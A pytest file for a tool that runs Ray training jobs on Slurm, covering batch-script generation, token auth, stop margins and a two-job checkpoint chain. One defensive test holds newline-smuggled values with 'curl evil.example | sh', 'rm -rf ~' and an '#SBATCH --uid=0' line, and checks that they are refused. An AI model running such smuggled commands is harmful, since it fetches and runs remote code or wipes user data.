"""Ray on Slurm against a real Slurm (slurmctld + slurmd + munge on this machine, tests/slurm_cluster.py):
`amalia slurm --submit --chain 2 --follow` sends a recipe (a short pretraining, its data stages carried over from the
demo run) as two chained batch jobs. The first job is sent the signal Slurm sends before a time limit (`scancel --batch
--signal=USR1`, what `--signal=B:USR1@120` delivers) while it trains: it checkpoints at that step and stops; the
second job resumes from that checkpoint, trains every remaining step once and finishes the run."""

from __future__ import annotations

import json
import math
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from amalia_ray.cluster.slurm import FREE_PORTS, SlurmJob, batch_script, check_shared, seconds_of
from amalia_ray.core.errors import AmaliaError
from amalia_ray.core.stop import clear_stop, stop_on_signals, stop_requested
from tests.conftest import DATA_STAGES, carry_over_data_stages, read_jsonl
from tests.slurm_cluster import SlurmCluster, missing_tools

STEPS = 12


def test_the_batch_script_follows_rays_slurm_pattern(tmp_path):
    job = SlurmJob(recipe=tmp_path / "r.yaml", run_dir=tmp_path / "runs" / "x", nodes=4, gpus_per_node=4,
                   partition="acc", account="ehpc01", time="2-00:00:00", modules=["CUDA/12.4"], until="sft",
                   sbatch_args=["--mem=0"], venv=Path("/gpfs/venv"))
    script = batch_script(job)
    for line in ("#SBATCH --nodes=4", "#SBATCH --ntasks-per-node=1", "#SBATCH --exclusive",
                 "#SBATCH --gpus-per-node=4", "#SBATCH --time=2-00:00:00", "#SBATCH --partition=acc",
                 "#SBATCH --account=ehpc01", "#SBATCH --signal=B:USR1@120", "#SBATCH --mem=0",
                 "module load CUDA/12.4", "source /gpfs/venv/bin/activate"):
        assert line in script.splitlines(), line
    assert re.search(r"ray start --head --node-ip-address=\"\$head_ip\" --port=\"\$ray_port\" .*--num-gpus=4 .*--block &",
                     script.replace("\\\n", ""))
    # two jobs may share a node: the head's ports are free ones picked as the job starts, and the ports Ray takes
    # at fixed numbers on every node (the dashboard agent's, the workers') are left to the OS
    assert "head_endpoint(None, None)" in script and script.count(FREE_PORTS) == 2
    assert "head_endpoint(6390, 8270)" in batch_script(SlurmJob(recipe=job.recipe, run_dir=job.run_dir,
                                                                ray_port=6390, dashboard_port=8270))
    # a whole node is its memory too, unless asked otherwise
    assert script.count("#SBATCH --mem=0") == 1, "given once, by --sbatch-arg"
    assert "#SBATCH --mem=0" in batch_script(SlurmJob(recipe=job.recipe, run_dir=job.run_dir)).splitlines()
    assert "--mem" not in batch_script(SlurmJob(recipe=job.recipe, run_dir=job.run_dir, cpus_per_node=8))
    assert 'ray start --address="$ray_address"' in script and "--until sft" in script
    # each Ray node's step holds the node's CPUs (srun does not inherit them); without --gpus-per-node, Ray takes
    # the GPUs the site's own request (--gres) gave the node
    assert script.count('srun --nodes=1 --ntasks=1 --overlap --cpus-per-task="$cpus"') == 2
    gres = batch_script(SlurmJob(recipe=job.recipe, run_dir=job.run_dir, nodes=2, sbatch_args=["--gres=gpu:4"]))
    assert gres.count('--num-gpus="${SLURM_GPUS_ON_NODE:-0}"') == 2
    assert "trap " in script and "USR1" in script and "stop_requested" in script
    assert subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0
    assert seconds_of("2-00:00:00") == 172800 and seconds_of("90") == 5400 and seconds_of("1:30:00") == 5400
    with pytest.raises(AmaliaError, match="--time"):
        SlurmJob(recipe=job.recipe, run_dir=job.run_dir, time="tomorrow")
    with pytest.raises(AmaliaError, match="--stop-before"):
        SlurmJob(recipe=job.recipe, run_dir=job.run_dir, time="00:01:00")
    with pytest.raises(AmaliaError, match="shared filesystem"):  # /tmp is local to this node
        check_shared(SlurmJob(recipe=job.recipe, run_dir=Path("/tmp/amalia-run"), nodes=2))


def test_the_head_is_reached_at_an_address_other_nodes_can_use(monkeypatch):
    """Debian-style hosts files map a node's hostname to 127.0.1.1: the head's address is then taken from its
    network interfaces, never a loopback address a worker node would dial itself at."""
    import socket
    from types import SimpleNamespace

    import psutil

    from amalia_ray.cluster import slurm

    def interfaces(*addresses):
        return {name: [SimpleNamespace(family=socket.AF_INET, address=a)] for name, a in addresses}

    monkeypatch.setattr(socket, "getaddrinfo", lambda *a: [(socket.AF_INET, 1, 6, "", ("127.0.1.1", 0))])
    monkeypatch.setattr(psutil, "net_if_addrs", lambda: interfaces(
        ("lo", "127.0.0.1"), ("docker0", "172.17.0.1"), ("eno1", "169.254.3.4"), ("ib0", "10.1.2.3")))
    assert slurm.node_ip() == "10.1.2.3", "not loopback, Docker's bridge or a link-local address"
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a: [(socket.AF_INET, 1, 6, "", ("10.9.9.9", 0))])
    assert slurm.node_ip() == "10.9.9.9", "the address the hostname resolves to comes first"
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a: (_ for _ in ()).throw(socket.gaierror("unknown host")))
    monkeypatch.setattr(psutil, "net_if_addrs", lambda: interfaces(("lo", "127.0.0.1")))
    assert slurm.node_ip() == "127.0.0.1", "a node with no other address: a one-node job still runs"
    ip, ray_port, dashboard, client = slurm.head_endpoint(None, 8270).split()
    assert ip == "127.0.0.1" and int(dashboard) == 8270 and len({ray_port, dashboard, client}) == 3


@pytest.mark.reliability
def test_the_batch_script_starts_ray_with_token_auth_unless_told_not_to(tmp_path, monkeypatch):
    """Other users of the allocation's nodes can reach Ray's ports: the script turns token auth on with a token
    file only its owner reads (made once per run folder, or the site's RAY_AUTH_TOKEN_PATH); --allow-no-auth is
    the one way to start it open."""
    import stat

    from amalia_ray.cluster.slurm import auth_token

    monkeypatch.delenv("RAY_AUTH_TOKEN_PATH", raising=False)
    token = auth_token(tmp_path / "runs" / "x" / "slurm")
    assert stat.S_IMODE(token.stat().st_mode) == 0o600 and len(token.read_text()) == 64
    assert auth_token(token.parent) == token and token.read_text() == token.read_text(), "made once"
    job = SlurmJob(recipe=tmp_path / "r.yaml", run_dir=tmp_path / "runs" / "x", token_path=token)
    lines = batch_script(job).splitlines()
    auth = lines.index(f"export RAY_AUTH_MODE=token RAY_AUTH_TOKEN_PATH={token}")
    assert auth < next(i for i, ln in enumerate(lines) if "ray start --head" in ln)
    open_job = SlurmJob(recipe=tmp_path / "r.yaml", run_dir=tmp_path / "runs" / "x")
    assert any(ln.startswith("export RAY_AUTH_MODE=disabled  # --allow-no-auth") for ln in batch_script(open_job)
               .splitlines())
    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", "/etc/site/ray_token")
    assert auth_token(tmp_path / "other") == Path("/etc/site/ray_token")


@pytest.mark.reliability
def test_a_control_character_never_reaches_the_batch_script(tmp_path):
    """A newline in a value written to the script (a run folder from `run.output_dir`, a module, an sbatch argument)
    would start a line of its own — `#SBATCH --output=/x` then a command. Refused, naming the value."""
    bad = {"run_dir": tmp_path / "runs\ncurl evil.example | sh", "modules": ["CUDA\nrm -rf ~"],
           "sbatch_args": ["--mem=0\n#SBATCH --uid=0"], "until": "sft\r"}
    for field, value in bad.items():
        kwargs = {"recipe": tmp_path / "r.yaml", "run_dir": tmp_path / "runs" / "x", field: value}
        with pytest.raises(AmaliaError, match="a control character"):
            SlurmJob(**kwargs)


@pytest.mark.reliability
@pytest.mark.parametrize("field, path", [("workdir", "My Projects/amalia"), ("run_dir", "runs/exp#2"),
                                         ("run_dir", "runs/100%"), ("workdir", 'a"b')])
def test_a_path_sbatch_would_split_or_cut_is_refused(tmp_path, field, path):
    """sbatch splits an #SBATCH line's arguments at spaces, ends them at a '#', reads quotes its own way and expands
    '%' in --output: `--chdir=/home/u/My Projects` would run the job in /tmp, from where the recipe's relative paths
    mean something else. Refused, naming the path."""
    kwargs = {"recipe": tmp_path / "r.yaml", "run_dir": tmp_path / "runs" / "x", "workdir": tmp_path,
              field: tmp_path / path}
    with pytest.raises(AmaliaError, match="sbatch would split or cut its #SBATCH line there"):
        SlurmJob(**kwargs)


def test_the_stop_margin_covers_a_step_and_a_checkpoint_planned_or_measured(tmp_path):
    """The stop is seen at the end of a step, then the checkpoint is saved: the 9B recipe's pretraining (a 9.9 s
    step, a ~22 s save of 108 GB at 5 GB/s: 108 s) keeps the 120 s floor; once the run has measured slower saves,
    those count, with its slowest step but the first (which compiles); a slow planned step and save raise it, and a
    GRPO step may hold a whole rollout."""
    import json
    from types import SimpleNamespace

    from amalia_ray.cluster.plan import plan_stage
    from amalia_ray.cluster.slurm import stop_margin
    from tests.test_plan import AMALIA_9B, _dims

    recipe, dims = _dims(AMALIA_9B)
    stages = [plan_stage(stage, recipe, dims) for stage in recipe.train]
    seconds, why = stop_margin(stages, tmp_path)
    slowest = max(stages, key=lambda p: p.step_time_s + p.checkpoint_s)
    assert slowest.stage == "pretrain" and 20 < slowest.checkpoint_s < 25
    assert seconds == 120 and why == "at least 120 s; pretrain: a step 10 s + a checkpoint 22 s, planned"
    assert stop_margin([SimpleNamespace(stage="x", step_time_s=60, checkpoint_s=30, rollout_s=0, longest_step_s=60)],
                       tmp_path) == (195, "x: a step 60 s + a checkpoint 30 s, planned")
    rl = SimpleNamespace(stage="rl", step_time_s=60, checkpoint_s=30, rollout_s=100, longest_step_s=160)
    assert stop_margin([rl], tmp_path) == (345, "rl: a step 160 s + a checkpoint 30 s, planned")
    (tmp_path / "rl").mkdir()  # two steps measured, neither with a rollout in it: the planned one stands
    (tmp_path / "rl" / "metrics.jsonl").write_text('{"step": 1, "step_time_s": 70}\n{"step": 2, "step_time_s": 65}\n')
    assert stop_margin([rl], tmp_path) == (345, "rl: a step 160 s + a checkpoint 30 s, planned")
    (tmp_path / slowest.stage).mkdir()
    times = {1: 90.0, 2: 12.0, 3: 20.0, 4: 12.0}
    (tmp_path / slowest.stage / "metrics.jsonl").write_text("".join(
        json.dumps({"step": i, "step_time_s": t, **({"last_checkpoint_s": 300.0} if i == 3 else {})}) + "\n"
        for i, t in times.items()) + '{"step": 5, "step_ti')  # a job still appending
    assert stop_margin(stages, tmp_path) == (math.ceil(1.5 * 320 + 60), f"{slowest.stage}: a step 20 s + a "
                                                                          "checkpoint 300 s, measured")
    assert stop_margin([SimpleNamespace(stage="tiny", step_time_s=0.1, checkpoint_s=0.01, rollout_s=0,
                                        longest_step_s=0.1)], tmp_path)[0] == 120


def test_sigusr1_asks_the_run_to_stop_and_a_new_run_forgets_it(tmp_path):
    before = signal.getsignal(signal.SIGUSR1)
    with stop_on_signals(tmp_path):
        assert stop_requested(tmp_path) is None
        os.kill(os.getpid(), signal.SIGUSR1)
        time.sleep(0.1)
        assert "SIGUSR1" in stop_requested(tmp_path)
    assert signal.getsignal(signal.SIGUSR1) is before
    clear_stop(tmp_path)  # what the pipeline does when it starts
    assert stop_requested(tmp_path) is None


@pytest.mark.reliability
@pytest.mark.e2e
def test_a_chained_job_stopped_before_its_time_limit_is_carried_on_by_the_next(demo_run, recipe_path, tmp_path):
    if missing := missing_tools():
        pytest.fail(f"Slurm is not installed ({', '.join(missing)} missing): `make slurm` installs slurm-wlm and "
                    "munge")
    cluster = SlurmCluster(tmp_path / "slurm").start()
    try:
        _chain_of_two(demo_run, recipe_path, tmp_path, cluster)
    finally:
        cluster.stop()


def _chain_of_two(demo_run, recipe_path: Path, tmp_path: Path, cluster: SlurmCluster) -> None:
    data = yaml.safe_load(recipe_path.read_text())
    data["run"].update(name="slurm", output_dir=str(tmp_path / "runs"))
    data["train"][0].update(steps=STEPS, checkpoint_every=100, warmup_steps=2, curriculum=None, max_failures=0,
                            log_every=1)
    recipe = tmp_path / "recipe.yaml"
    recipe.write_text(yaml.safe_dump(data, sort_keys=False))
    run_dir = tmp_path / "runs" / "slurm"
    carried = carry_over_data_stages(demo_run, run_dir)  # curating the corpus on Ray: the demo run's to test
    env = {**cluster.env, "RAY_AUTH_MODE": "disabled"}
    follow = subprocess.Popen(
        [sys.executable, "-m", "amalia_ray.cli", "slurm", str(recipe), "--until", "pretrain", "--submit", "--follow",
         "--chain", "2", "--time", "00:30:00", "--scratch", f"/tmp/amalia-slurm-{os.getpid()}"],
        cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    head = ""  # the stop margin and the script's path, then the job ids
    while not (ids := re.search(r"^(\d+) (\d+)$", head, re.M)) and len(head.splitlines()) < 8:
        if not (line := follow.stdout.readline()):
            break
        head += line
    assert ids, head + follow.stdout.read()
    assert "stopping 120 s before the time limit" in head.replace("\n", " ")
    first, second = ids.groups()

    # the time-limit warning, once the first job trains
    metrics, deadline = run_dir / "pretrain" / "metrics.jsonl", time.monotonic() + 600
    while not (metrics.exists() and len(read_jsonl(metrics)) >= 3):
        assert time.monotonic() < deadline and follow.poll() is None, (follow.stdout.read(), cluster.log_tail())
        time.sleep(1)
    subprocess.run(["scancel", "--batch", "--signal=USR1", first], env=cluster.env, check=True)
    output, _ = follow.communicate(timeout=900)
    assert follow.returncode == 0, output[-6000:] + cluster.log_tail()

    assert f"job {first}: STOPPED" in output and f"job {second}: COMPLETED" in output, output[-3000:]
    assert "time limit near" in output and "stopped at a checkpoint" in output and "the run is complete" in output
    stopped_at = int(re.search(r"stopped on request at step (\d+) of " + str(STEPS), output).group(1))
    assert 3 <= stopped_at < STEPS

    script = (run_dir / "slurm" / "job.sbatch").read_text()
    assert "#SBATCH --signal=B:USR1@120" in script and "#SBATCH --time=00:30:00" in script
    # its Ray ran with token auth: the token in a file of the run folder only its owner reads
    assert f"export RAY_AUTH_MODE=token RAY_AUTH_TOKEN_PATH={run_dir / 'slurm' / 'auth_token'}" in script
    manifest = json.loads((run_dir / "manifest.json").read_text())["stages"]
    assert [k for k in manifest] == ["data", "tokenizer", "pack", "pretrain"]
    assert all(r["status"] == "completed" for r in manifest.values()), manifest
    assert all(manifest[k]["attempts"] == carried["stages"][k]["attempts"] for k in DATA_STAGES), "not run again"
    assert manifest["pretrain"]["attempts"] == 2 and manifest["pretrain"]["slurm_jobs"] == [first, second]
    history = read_jsonl(metrics)
    assert [h["step"] for h in history] == list(range(1, STEPS + 1)), "every step once, across the two jobs"
    assert {h["attempt_start_step"] for h in history if h["step"] > stopped_at} == {stopped_at}, \
        "the second job started from the first job's stop checkpoint"
    assert "val_loss" not in history[stopped_at - 1], "the stop checkpoint is not held up by a validation pass"
    assert (run_dir / "pretrain" / "hf" / "config.json").exists()
    assert (run_dir / "pretrain" / "hf" / "model.safetensors").exists()
    assert not (run_dir / "stop_requested").exists()
    # each job's own output, kept beside the script
    assert (run_dir / "slurm" / f"{first}.out").exists() and (run_dir / "slurm" / f"{second}.out").exists()
